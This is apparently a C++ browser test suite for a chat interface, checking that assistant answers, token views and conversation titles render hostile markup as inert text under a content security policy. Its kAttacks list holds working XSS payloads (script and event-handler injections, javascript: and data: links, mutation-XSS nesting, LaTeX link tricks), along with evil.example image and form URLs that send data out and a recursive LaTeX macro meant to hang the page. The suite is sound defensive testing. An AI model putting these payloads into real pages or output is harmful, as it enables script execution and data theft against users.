// Answers that try to run script, to fetch from elsewhere, or to break the page. None may.
#include <fmt/format.h>
#include <nlohmann/json.hpp>

#include "tests/webui/web_page.h"

namespace aurora::testing {
namespace {

// Each sets window.hacked if it runs. hack() of a test page is `top.hacked = 1`.
const std::vector<std::string> kAttacks = {
    "<script>window.hacked=1</script>",
    "<img src=x onerror=\"window.hacked=1\">",
    "<svg onload=\"window.hacked=1\"><script>window.hacked=1</script></svg>",
    "<svg><animate onbegin=window.hacked=1 attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x "
    "onerror=window.hacked=1></style></mglyph></table></mtext></math>",
    "<iframe srcdoc=\"<script>top.hacked=1</script>\"></iframe>",
    "<details open ontoggle=window.hacked=1><summary>x</summary></details>",
    "<form id=composer action=\"https://evil.example/\"><input name=input autofocus "
    "onfocus=window.hacked=1></form>",
    "<base href=\"https://evil.example/\"><link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:window.hacked=1\">",
    "<style>body{background:url(https://evil.example/x)}</style><p "
    "style=\"background:url(//evil.example/y)\">x</p>",
    "[click](javascript:window.hacked=1) [click](JaVaScRiPt:window.hacked=1) "
    "[c](java&#x73;cript:window.hacked=1)",
    "[click](data:text/html;base64,PHNjcmlwdD50b3AuaGFja2VkPTE8L3NjcmlwdD4=) [v](vbscript:x) "
    "[f](file:///etc/passwd)",
    "[a](x:y \"\\\" onmouseover=window.hacked=1 \") <javascript:window.hacked=1> <a "
    "href=javascript:window.hacked=1>b</a>",
    "![p](https://evil.example/steal.png?all=of-it) ![q](x \"\\\" onerror=window.hacked=1\") "
    "![\"onload=window.hacked=1](y)",
    "$\\href{javascript:window.hacked=1}{x}$ and $\\url{javascript:window.hacked=1}$",
    "$\\includegraphics{https://evil.example/x.png}$ $\\htmlId{input}{x}$ $\\htmlStyle{background:red}{x}$",
    "$$\\text{<img src=x onerror=window.hacked=1>}$$ `$<b onclick=window.hacked=1>$`",
    "$\\def\\a{\\a\\a}\\a$ $\\rule{99999em}{99999em}$",
    "```html\"><img/src=x/onerror=window.hacked=1>\n<script>window.hacked=1</script>\n```",
    "```html\n<script>window.hacked=1</script><img src=x onerror=window.hacked=1>\n```",
    "| a |\n|---|\n| <img src=x onerror=window.hacked=1> |\n\n- [x] <b onclick=window.hacked=1>b</b>",
    "<a name=\"input\"></a><a id=\"messages\"></a><span id=\"live\">x</span>",
    "</div></article></li></ol><script>window.hacked=1</script><template><script>window.hacked=1</script>",
};

std::string question(size_t i) {
  return fmt::format("attack {:03}", i);
}

class Hostile : public WebPage {
 protected:
  // Asks every question; each answer gets a conversation of its own.
  void look_at_each(const std::function<void(const std::string&)>& look) {
    Dialogue dialogue;
    for (size_t i = 0; i < kAttacks.size(); ++i)
      dialogue[question(i)] = "Look:\n\n" + kAttacks[i] + "\n\nEnd.";
    begin(dialogue);
    for (size_t i = 0; i < kAttacks.size(); ++i) {
      page().chord(keys::kControl, "k");
      ask(question(i));
      look(kAttacks[i]);
    }
  }
};

TEST_F(Hostile, AnswersRunNothingAndLoadNothing) {
  look_at_each([&](const std::string& attack) {
    // What readers do: move over it, click it.
    page().run(R"(
      for (const element of document.querySelectorAll('.assistant .body *')) {
        for (const name of ['mouseover', 'focus', 'toggle', 'load', 'error']) element.dispatchEvent(new Event(name));
        if (!element.closest('a')) element.click?.();
      })");
    EXPECT_EQ(page().run("return window.hacked ?? null"), nullptr) << attack;
    const Json wrong = page().run(R"(
      const wrong = [];
      for (const element of document.querySelectorAll('.assistant .body *')) {
        if (/^(script|style|link|meta|base|iframe|object|embed|form|input|img|video|audio|template)$/i.test(element.localName))
          wrong.push(element.outerHTML);
        for (const {name, value} of element.attributes) {
          if (/^on/i.test(name)) wrong.push(name + '=' + value);
          if (/^(href|src|action)$/.test(name) && !/^(https?:|mailto:|icons\.svg#)/.test(value)) wrong.push(value);
        }
        if (element.id && !element.closest('.katex')) wrong.push('id ' + element.id);
      }
      return wrong)");
    EXPECT_EQ(wrong, Json::array()) << attack;
    const Json outside = page().run(
        "return performance.getEntriesByType('resource').map((entry) => entry.name)"
        ".filter((name) => !name.startsWith(location.origin + '/'))");
    EXPECT_EQ(outside, Json::array()) << attack;
    EXPECT_THAT(page().text(".assistant .body"), ::testing::HasSubstr("End.")) << attack;
  });
  page().run("document.querySelector('#scroll').scrollTop = 0");
}

TEST_F(Hostile, TokensAreShownAsText) {
  page().click("#probabilities");
  begin({{"show", "<img src=x onerror=window.hacked=1><script>window.hacked=1</script>"}});
  page().run(
      "if (document.querySelector('#probabilities').ariaPressed !== 'true') "
      "document.querySelector('#probabilities').click()");
  ask("show");
  EXPECT_THAT(page().text(".tokens"), ::testing::HasSubstr("<img src=x onerror=window.hacked=1>"));
  EXPECT_EQ(page().count(".tokens img, .tokens script"), 0);
  EXPECT_EQ(page().run("return window.hacked ?? null"), nullptr);
}

TEST_F(Hostile, MessagesAndTitlesAreShownAsText) {
  ask("<img src=x onerror=window.hacked=1>");
  EXPECT_EQ(page().text(".user .body"), "<img src=x onerror=window.hacked=1>");
  EXPECT_EQ(page().text("#conversations .choose"), "<img src=x onerror=window.hacked=1>");
  page().reload();
  EXPECT_EQ(page().run("return window.hacked ?? null"), nullptr);
}

TEST_F(Hostile, ThePolicyStopsWhatWouldStillComeThrough) {
  page().run(R"(
    const script = document.createElement('script');
    script.textContent = 'window.hacked = 1';
    document.body.append(script);
    document.body.insertAdjacentHTML('beforeend', '<b id="bait" onclick="window.hacked = 2">b</b>');
    document.querySelector('#bait').click();
    window.blocked = 0;
    document.addEventListener('securitypolicyviolation', () => { window.blocked += 1; });
    document.body.append(Object.assign(new Image(), {src: 'http://127.0.0.1:1/x.png'}));)");
  page().wait("window.blocked > 0");
  EXPECT_EQ(page().run("return window.hacked ?? null"), nullptr);
  EXPECT_THAT(page().errors(), ::testing::HasSubstr("Content Security Policy"));
}

}  // namespace
}  // namespace aurora::testing
